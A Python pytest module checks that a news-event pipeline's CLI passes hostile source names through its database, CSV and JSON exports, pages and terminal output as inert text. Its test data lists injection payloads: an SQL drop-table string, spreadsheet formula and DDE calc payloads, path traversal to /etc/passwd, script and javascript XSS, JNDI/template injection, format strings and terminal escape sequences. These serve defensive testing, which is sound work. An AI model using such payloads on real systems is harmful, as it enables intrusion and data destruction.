"""Names that are commands elsewhere pass through every table and every way out as text."""

import csv
import io
import json
import re
from pathlib import Path
from typing import get_args

import pytest
from typer.testing import CliRunner, Result

from flows import artifacts
from readout import tabular, warehouse
from readout.cells import unguarded
from readout.cli import app
from readout.exchange import Form
from readout.markdown import table
from tests.faults.conftest import Keep
from tests.newsroom import Newsroom, Story, day, told

pytestmark = pytest.mark.promise(10)

HOSTILE = (
    "Robert'); DROP TABLE store.documents; --",
    '=HYPERLINK("http://e.example","x")',
    "@SUM(A1:A9)",
    "+1+cmd|' /C calc'!A0",
    "../../etc/passwd",
    "<script>alert(1)</script>",
    "[x](javascript:alert(1))",
    "javascript:alert(1)",
    "{{ 7 * 7 }}${jndi:ldap://e.example}",
    "%s%n%x",
    "\x1b[31mred\x1b[0m",
    "\u202egnp.exe",
    'a,b\t"c"\\',
    "NULL",
)  # fmt: skip
RUNS = re.compile(r"[=+\-@]")


def story(name: str, number: int) -> Story:
    text = f"{name} met Carl Dahl in Oslo on 3 March 2025, report {number} of {name} says."
    when = day(text, "3 March 2025", "2025-03-03")
    mention = told(
        text, "meeting", "met", [name, "Carl Dahl"], when=when, arguments={"topic": f"of {name}"}
    )
    url = f"https://news.example/{number}?{name}"
    return Story(text, (mention,), url, source=name, title=name)


STORIES = [story(name, number) for number, name in enumerate(HOSTILE)]


@pytest.fixture(scope="module")
def newsroom(tmp_path_factory: pytest.TempPathFactory) -> Newsroom:
    newsroom = Newsroom(tmp_path_factory.mktemp("outer") / "inner" / "home")
    balance = newsroom.run(*STORIES)
    assert balance.inputs == len(HOSTILE)
    assert balance.rejected == 0
    return newsroom


def readout(newsroom: Newsroom, *arguments: str) -> Result:
    return CliRunner().invoke(
        app, [*arguments, "--home", str(newsroom.path)], env={"COLUMNS": "400"}
    )


def test_names_are_in_the_tables_as_they_were_given(newsroom: Newsroom) -> None:
    assert {*newsroom.rows("select title, source from documents_v1")} == {(n, n) for n in HOSTILE}
    assert newsroom.rows("select count(*) from documents_v1") == [(len(HOSTILE),)]
    named = {value for (value,) in newsroom.rows("select text from arguments_v1")}
    assert {*HOSTILE} <= named


def test_no_name_of_a_source_became_a_file(newsroom: Newsroom) -> None:
    outer = newsroom.path.parents[1]
    assert {path.name for path in outer.rglob("*") if path.is_file()} == {
        "lock", "readout.duckdb", "warehouse.duckdb",
    }  # fmt: skip


@pytest.mark.parametrize("view", sorted({one.view for one in warehouse.versions()}))
def test_every_view_goes_out_as_csv_that_no_spreadsheet_runs_and_as_json_unchanged(
    newsroom: Newsroom, view: str
) -> None:
    query = f"from {view}"
    objects = json.loads(readout(newsroom, "sql", query, "--format", "json").stdout or "[]")
    text = readout(newsroom, "sql", query, "--format", "csv").stdout
    rows = [*csv.reader(io.StringIO(text, newline=""))][1:]
    assert len(rows) == len(objects)
    cells = [cell for row in rows for cell in row]
    assert not [cell for cell in cells if RUNS.match(cell) and not _is_number(cell)]
    plain = {unguarded(cell) for cell in cells}
    for value in (value for row in objects for value in row.values()):
        assert not isinstance(value, str) or value in plain or value not in HOSTILE


def _is_number(cell: str) -> bool:
    return re.fullmatch(r"[+-]?[\d.]+(?:e[+-]?\d+)?", cell) is not None


@pytest.mark.parametrize("form", get_args(Form))
def test_every_export_has_a_line_for_each_event_and_runs_none(
    newsroom: Newsroom, form: str, keep: Keep
) -> None:
    done = CliRunner().invoke(
        app, ["export", "--format", form, "--home", str(newsroom.path)], env={"COLUMNS": "400"}
    )
    assert done.exit_code == 0, done.output
    assert f"{len(HOSTILE)} rows written" in done.stderr
    if form in {"csv", "spreadsheet", "gdelt", "acled"}:
        for line in done.stdout.splitlines()[1:]:
            assert not line.startswith(("=", "@", '"=', '"@')), line
    keep(10, "hostile names", len(HOSTILE))


def test_pages_show_names_as_words(newsroom: Newsroom) -> None:
    query = (artifacts.QUERIES / "events_of_run.sql").read_text("utf-8")
    rows = tabular.rows(warehouse.query(newsroom.home, query, ["run", 50]))
    assert len(rows) == len(HOSTILE)
    shown = table(("event",), [(cell,) for row in rows for cell in artifacts._event(row)])  # noqa: SLF001  what the page is made of
    assert not re.search(r"(?<!\\)<script|(?<!\\)\]\(javascript", shown)
    assert "\x1b" not in shown
    assert "\u202e" not in shown


def test_the_prompt_and_an_explanation_send_no_commands_to_the_terminal(newsroom: Newsroom) -> None:
    shown = readout(newsroom, "sql", "select title from documents_v1").stdout
    for (mention,) in newsroom.rows("select mention_id from mentions_v1"):
        shown += readout(newsroom, "explain", str(mention)).stdout
    assert "\x1b" not in shown
    assert "NULL" in shown


def test_the_file_system_outside_the_home_is_as_it_was(tmp_path: Path) -> None:
    newsroom = Newsroom(tmp_path / "a" / "b" / "home")
    newsroom.run(story("../../etc/passwd", 1))
    assert [path.name for path in tmp_path.iterdir()] == ["a"]
    assert [path.name for path in (tmp_path / "a").iterdir()] == ["b"]
